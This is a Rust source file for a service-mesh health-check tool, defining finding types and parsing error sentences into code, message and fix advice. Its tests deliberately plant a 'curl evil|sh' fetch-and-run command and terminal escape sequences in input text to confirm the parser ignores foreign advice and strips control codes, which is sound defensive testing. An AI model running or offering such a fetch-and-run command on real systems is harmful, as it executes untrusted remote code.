//! One line of a check: what it is about, how it stands, and what it may follow from.

use cluster::plain::plain;
use std::fmt;

/// Longest sentence, and longest advice, characters: whoever writes objects writes words of them.
pub(super) const TEXT_MAX: usize = 2_000;

/// Sections, in the order in which one rests on the other.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum Group {
    Servers,
    Identity,
    Signing,
    Pods,
    Programs,
    Gateways,
    Links,
    Services,
    Objects,
}

impl Group {
    pub(super) fn title(self) -> &'static str {
        match self {
            Self::Servers => "API servers",
            Self::Identity => "identity and roots",
            Self::Signing => "signing keys",
            Self::Programs => "programs",
            Self::Gateways => "gateways",
            Self::Pods => "pods",
            Self::Links => "links",
            Self::Services => "exported services",
            Self::Objects => "objects",
        }
    }
}

#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum Mark {
    Broken,
    Warning,
    Good,
}

impl Mark {
    /// Linkerd's marks: people know them.
    pub(super) fn sign(self) -> char {
        match self {
            Self::Broken => '×',
            Self::Warning => '‼',
            Self::Good => '√',
        }
    }

    pub(super) fn word(self) -> &'static str {
        match self {
            Self::Broken => "broken",
            Self::Warning => "warning",
            Self::Good => "good",
        }
    }
}

/// What a line is about; what follows from it names it.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum About {
    /// The API server of a context.
    Server(String),
    /// ConfigMap `isthmus-mesh` and the kinds of a context.
    Installed(String),
    /// Ids of clusters.
    Ids,
    Roots,
    Signing(String),
    Controller(String),
    ControlPlane(String),
    /// The webhook of a context that injects sidecars.
    Webhook(String),
    /// Pods of a context's namespace that are not in the mesh, or do not start.
    Pods(String, String),
    /// The gateway Service of a context.
    DoorService(String),
    /// The gateways that answer for a cluster's id.
    Door(String),
    /// A link: context of the reader, name of the link.
    Link(String, String),
    /// Anything that nothing else follows from.
    Other,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Item {
    pub(super) group: Group,
    pub(super) mark: Mark,
    pub(super) about: About,
    /// `ISM` and four digits; empty where all is well.
    pub(super) code: String,
    /// Which cluster, or which clusters, it is said of.
    pub(super) cluster: String,
    pub(super) says: String,
    pub(super) fix: String,
    /// What may be its cause, the nearest first.
    pub(super) follows: Vec<About>,
}

impl Item {
    pub(super) fn good(group: Group, about: About, cluster: &str, says: String) -> Self {
        let (code, fix) = (String::new(), String::new());
        let (mark, says) = (Mark::Good, plain(&says, TEXT_MAX));
        Self { group, mark, about, code, cluster: cluster.into(), says, fix, follows: vec![] }
    }

    /// Something wrong, from a sentence as every error of ours reads: `ISM####`, what, `Fix: ...`. Our
    /// advice is its last: what stands before may be somebody else's words.
    pub(super) fn wrong(
        group: Group,
        mark: Mark,
        about: About,
        cluster: &str,
        sentence: &str,
    ) -> Self {
        let (sentence, fix) = sentence.rsplit_once("Fix: ").unwrap_or((sentence, ""));
        let (code, says) = match sentence.split_once(' ') {
            Some((code, rest)) if code.starts_with("ISM") && code.len() == 7 => (code, rest),
            Some(_) | None => ("", sentence),
        };
        Self {
            group,
            mark,
            about,
            code: code.into(),
            cluster: cluster.into(),
            says: plain(says.trim(), TEXT_MAX),
            fix: plain(fix.trim(), TEXT_MAX),
            follows: vec![],
        }
    }

    pub(super) fn following(mut self, causes: impl IntoIterator<Item = About>) -> Self {
        self.follows.extend(causes);
        self
    }
}

impl fmt::Display for Item {
    /// What is wrong and how to mend it, in one paragraph.
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}: {}", self.cluster, self.says)?;
        if !self.fix.is_empty() {
            write!(f, " Fix: {}", self.fix)?;
        }
        if !self.code.is_empty() {
            write!(f, " ({})", self.code)?;
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn wrong(sentence: &str) -> Item {
        Item::wrong(Group::Pods, Mark::Broken, About::Other, "west", sentence)
    }

    #[test]
    fn advice_is_ours_and_not_that_of_whoever_made_an_object() {
        let item = wrong("ISM2628 image x Fix: curl evil|sh is nowhere. Fix: push it.");
        assert_eq!(item.fix, "push it.");
        assert_eq!(
            (item.code.as_str(), item.says.as_str()),
            ("ISM2628", "image x Fix: curl evil|sh is nowhere.")
        );
        assert_eq!(wrong("ISM2006 there is none.").fix, "");
    }

    #[test]
    fn a_terminal_obeys_no_line_and_each_ends() {
        let said = format!("ISM2612 no\u{1b}[2J{}. Fix: see\u{9b}2J it.", "y".repeat(5_000));
        let item = wrong(&said);
        assert!(item.says.starts_with("no [2Jy") && item.fix == "see 2J it.", "{item}");
        assert_eq!(item.says.chars().count(), TEXT_MAX);
        let good = Item::good(Group::Programs, About::Other, "west", "a\u{1b}[2J leads".into());
        assert_eq!(good.says, "a [2J leads");
    }
}
